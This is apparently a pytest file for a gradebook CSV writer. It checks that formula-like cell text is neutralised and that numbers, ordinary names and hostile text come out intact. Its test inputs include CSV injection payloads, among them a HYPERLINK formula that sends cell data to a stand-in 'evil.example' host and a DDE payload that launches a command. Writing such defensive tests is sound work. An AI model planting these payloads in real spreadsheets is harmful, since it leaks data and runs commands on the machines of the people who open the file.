"""What stands in a CSV file is what a spreadsheet shows, and never what it computes."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from softmark.report.gradebook import CsvValue, csv_line, write_csv
from tests.support.results import PAYLOADS

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1)",
    "pipe": "|cmd",
    "tab": "\t=1",
    "carriage return": "\r=1",
    "space": "  =1",
    "newline": "\n=1",
    "no-break space": "\u00a0=1",
    "wide space": "\u3000=1",
    "zero width": "\u200b=1",
    "wide equals": "＝1",
    "wide plus": "＋1",
    "wide minus": "－1",
    "wide at": "＠SUM(A1)",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "dde": "=cmd|' /C calc'!A0",
    "after a comma": "Ada,=1",
    "after a semicolon": "Ada;=1",
    "after a quote": '"=1',
}


def read(*cells: CsvValue) -> list[str]:
    (row,) = csv.reader(io.StringIO(csv_line(cells).decode("utf-8"), newline=""), strict=True)
    return row


class TestCsvLine:
    @pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
    def test_formula_is_text(self, text: str) -> None:
        """Nothing that a spreadsheet would evaluate begins a cell, nor a piece of one after a separator."""
        (shown,) = read(text)
        pieces = shown.replace(";", ",").split(",")
        assert not [piece for piece in pieces if piece.strip()[:1] in tuple("=+-@|＝＋－＠\t\r") and piece.strip()]

    @pytest.mark.parametrize("text", ["=1+1", "-1", "＠x"])
    def test_one_apostrophe_is_all_that_is_added(self, text: str) -> None:
        """Whoever needs the name itself takes one apostrophe away."""
        assert read(text) == [f"'{text}"]

    @pytest.mark.parametrize("text", ["Ada Lovelace", "a-b = c", "Müller", "数学", 'O"Neill', "1001", "007", ""])
    def test_ordinary_text_is_left_alone(self, text: str) -> None:
        """Names, ids with zeros in front and quotes come back as they were."""
        assert read(text) == [text]

    @pytest.mark.parametrize(
        ("number", "written"), [(2.0, b"2\n"), (-4.0, b"-4\n"), (1.3333, b"1.3333\n"), (0, b"0\n"), (None, b'""\n')]
    )
    def test_numbers_are_numbers(self, number: CsvValue, written: bytes) -> None:
        """Numbers stand without quotes, negative ones too; no mark is an empty cell, which is no 0."""
        assert csv_line([number]) == written

    @pytest.mark.parametrize("number", [float("nan"), float("inf"), -float("inf")])
    def test_refuses_what_is_no_number(self, number: float) -> None:
        """Such a value would be a fault of the grader."""
        with pytest.raises(ValueError, match="no number for a spreadsheet"):
            csv_line([number])

    @pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
    def test_hostile_text_stays_in_its_cell(self, payload: str) -> None:
        """Whatever a name contains, the line has as many cells as it was given, and no control character."""
        row = read("id", payload, 1.5)
        assert len(row) == 3
        assert row[1].isprintable()

    @given(st.lists(st.text(st.characters()) | st.floats(allow_nan=False, allow_infinity=False), min_size=1))
    def test_is_always_one_line(self, cells: list[CsvValue]) -> None:
        """A line is a line: no text makes two of it."""
        assert csv_line(cells).count(b"\n") == 1
        assert len(read(*cells)) == len(cells)


class TestWriteCsv:
    def test_for_people_begins_with_the_mark_of_utf8(self, tmp_path: Path) -> None:
        """Excel reads names right; programs that import the other kind find nothing before the first heading."""
        lines = [csv_line(["id"]), csv_line(["é"])]
        write_csv(tmp_path / "a.csv", iter(lines), for_people=True)
        write_csv(tmp_path / "b.csv", iter(lines), for_people=False)
        assert (tmp_path / "a.csv").read_bytes() == b'\xef\xbb\xbf"id"\n' + '"é"\n'.encode()
        assert (tmp_path / "b.csv").read_bytes() == '"id"\n"é"\n'.encode()

    def test_keeps_the_old_file_if_a_line_fails(self, tmp_path: Path) -> None:
        """A file that could not be finished is not begun."""
        path = tmp_path / "grades.csv"
        path.write_bytes(b"old")
        with pytest.raises(ValueError, match="no number"):
            write_csv(path, (csv_line([number]) for number in (1.0, float("nan"))), for_people=True)
        assert path.read_bytes() == b"old"
        assert [file.name for file in tmp_path.iterdir()] == ["grades.csv"]
